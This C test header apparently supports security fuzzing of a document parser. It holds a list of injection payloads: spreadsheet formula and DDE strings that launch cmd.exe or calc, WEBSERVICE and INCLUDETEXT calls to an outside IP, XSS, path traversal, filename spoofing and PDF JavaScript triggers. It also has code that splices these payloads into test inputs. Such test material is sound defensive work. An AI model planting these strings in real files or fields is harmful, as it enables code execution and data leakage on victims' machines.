/* SPDX-License-Identifier: Apache-2.0
 * forging.h: what a captured lock 1 would write into a form: a string of it exchanged for one that
 * would start or fetch something, were lock 2 to let it stand where a program reads it.
 */
#ifndef TESTS_FORGING_H
#define TESTS_FORGING_H

#include "base/base.h"
#include "base/buf.h"
#include "base/utf8.h"
#include "chance.h"

static const char *const evil[] = {
    "cmd|'/c calc'!A0",
    "=cmd|'/c calc'!A0",
    "=1+1",
    "@SUM(1)",
    "+cmd|x!A1",
    "-2+3+cmd|' /C calc'!A0",
    "WEBSERVICE(\"http://203.0.113.9/\")",
    "=WEBSERVICE(A1)",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
    "INCLUDETEXT \"\\\\\\\\203.0.113.9\\\\a\"",
    "a\" \\d INCLUDEPICTURE \"http://203.0.113.9/a",
    "ppaction://program",
    "ppaction://macro?name=a",
    "\\\\203.0.113.9\\share\\a.exe",
    "file:///C:/Windows/System32/calc.exe",
    "http://203.0.113.9@evil/",
    "javascript:alert(1)",
    "mhtml:http://203.0.113.9/!x-usc:http://203.0.113.9/",
    "[1]Sheet1!A1",
    "'\\\\203.0.113.9\\[a.xlsx]S'!A1",
    "Auto_Open",
    "_xlnm.Auto_Open",
    "a\"/><script>x</script><a b=\"",
    "]]><!DOCTYPE a>",
    "&e;",
    "../../vbaProject.bin",
    "a/../../b.txt",
    "CON.txt",
    "a\xe2\x80\xaegpj.exe",
    "x' onclick='y",
    ") /OpenAction << /S /JavaScript /JS (x) >> (",
    "/AA << /O 1 0 R >>",
    "endstream endobj 9 0 obj",
};

/* Does a string stand there: a length, then that many clean characters, none a control? */
static inline bool forging_string(struct view body, size_t at, size_t *ret_n)
{
	uint8_t n = body.p[at];
	struct view v = view_sub(body, at + 1, n);
	if (n < 1 || n > 120 || v.n != n || !utf8_clean(v))
		return false;
	for (size_t i = 0; i < v.n; i++)
		if (v.p[i] < 0x20)
			return false;
	*ret_n = n;
	return true;
}

/* The body, which is not empty, with one of its strings exchanged; as it is where none was met.
 * may_clip: now and then by no more than was there, so that lengths around it stay right. */
static inline void forging_exchange(struct view body, struct buf *to, bool may_clip)
{
	size_t at = 0, n = 0;
	for (unsigned tries = 0; tries < 4000 && n == 0; tries++) {
		at = any((uint32_t)body.n);
		if (!forging_string(body, at, &n))
			n = 0;
	}
	struct view with = n ? view_str(evil[any(array_len(evil))]) : view_sub(body, at, 1);
	if (may_clip && n > 1 && any(4) == 0)
		with = view_sub(with, 0, n);
	buf_put(to, view_sub(body, 0, at));
	if (n)
		buf_varint(to, with.n);
	buf_put(to, with);
	buf_put(to, view_sub(body, at + n + 1, body.n));
}

#endif
